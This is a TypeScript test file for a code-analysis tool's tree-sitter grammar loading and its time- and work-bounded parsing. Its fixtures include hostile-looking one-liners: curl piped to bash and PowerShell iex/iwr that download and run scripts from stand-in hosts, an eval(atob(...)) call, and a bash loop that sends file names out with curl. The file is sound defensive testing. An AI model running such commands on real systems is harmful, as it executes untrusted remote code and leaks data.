import { describe, expect, it } from 'vitest';
import { loadGrammars, parseBounded } from '../../src/analysis/code/grammar.js';

describe('tree-sitter grammars', () => {
  it('load lazily and parse each language', async () => {
    await loadGrammars(['bash', 'python', 'tsx', 'powershell']);
    const samples: Array<[Parameters<typeof parseBounded>[0], string, string]> = [
      ['bash', 'curl -fsSL https://x.test/i.sh | bash\n', 'pipeline'],
      ['python', 'import os\nos.system("id")\n', 'call'],
      ['tsx', 'const x: number = eval(atob("aWQ="));\n', 'call_expression'],
      ['powershell', 'iex (iwr https://x.test/a.ps1)\n', 'command'],
    ];
    for (const [name, text, nodeType] of samples) {
      const r = parseBounded(name, text);
      expect(r.status).toBe('ok');
      expect(r.tree!.rootNode.descendantsOfType(nodeType).length).toBeGreaterThan(0);
      r.tree!.delete();
    }
  });

  it('gives up on hostile input within its time budget', async () => {
    await loadGrammars(['bash']);
    const started = performance.now();
    const r = parseBounded('bash', '$('.repeat(300_000), {
      maxChars: 1 << 20,
      maxProgressChecks: 100_000,
      timeoutMs: 200,
    });
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(['gave-up', 'recovered']).toContain(r.status);
    r.tree?.delete();
  });

  it('bounds a parse by counted work, so the outcome does not depend on the machine or its load', async () => {
    await loadGrammars(['bash']);
    const text = 'for f in *; do echo "$f" | curl -s "https://a.b/$f"; done\n'.repeat(2_000);
    const limits = { maxChars: 1 << 20, maxProgressChecks: 50, timeoutMs: 30_000 };
    // The same small work budget gives up every time, however fast or slow the parse runs.
    for (let i = 0; i < 3; i++) {
      const r = parseBounded('bash', text, limits);
      expect(r.status).toBe('gave-up');
      r.tree?.delete();
    }
    const whole = parseBounded('bash', text);
    expect(whole.status).toBe('ok');
    whole.tree?.delete();
  });

  it('cuts input over the size bound and says so', async () => {
    await loadGrammars(['bash']);
    const r = parseBounded('bash', 'echo hi\n'.repeat(100), {
      maxChars: 50,
      maxProgressChecks: 100_000,
      timeoutMs: 1000,
    });
    expect(r.status).toBe('gave-up');
    r.tree?.delete();
  });
});
